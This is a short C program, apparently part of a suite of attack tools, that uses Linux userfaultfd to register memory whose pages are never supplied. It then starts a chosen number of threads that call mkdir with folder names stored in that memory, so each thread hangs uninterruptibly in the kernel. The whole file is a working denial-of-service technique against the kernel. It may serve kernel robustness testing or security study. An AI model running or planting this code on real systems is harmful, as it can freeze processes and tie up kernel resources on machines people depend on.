/*
 * stuck THREADS: THREADS threads make folders whose name is in memory that nobody ever provides. A thread that reads it
 * waits, and cannot be interrupted. Needs CAP_SYS_PTRACE: without it, a reader inside the kernel does not wait.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGE 4096

static void *make_folder(void *name)
{
    mkdir(name, 0755);
    return NULL;
}

int main(int argc, char **argv)
{
    long count = argc == 2 ? atol(argv[1]) : 0;
    struct uffdio_api api = {.api = UFFD_API};
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    char *memory = mmap(NULL, (size_t)count * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = {
        .range = {(unsigned long)memory, (unsigned long)count * PAGE}, .mode = UFFDIO_REGISTER_MODE_MISSING};

    if (fd < 0 || memory == MAP_FAILED || ioctl(fd, UFFDIO_API, &api) < 0 || ioctl(fd, UFFDIO_REGISTER, &range) < 0)
        fail("userfaultfd");
    for (long i = 0; i < count; i++)
        start_thread(make_folder, memory + i * PAGE);
    for (;;)
        pause();
}
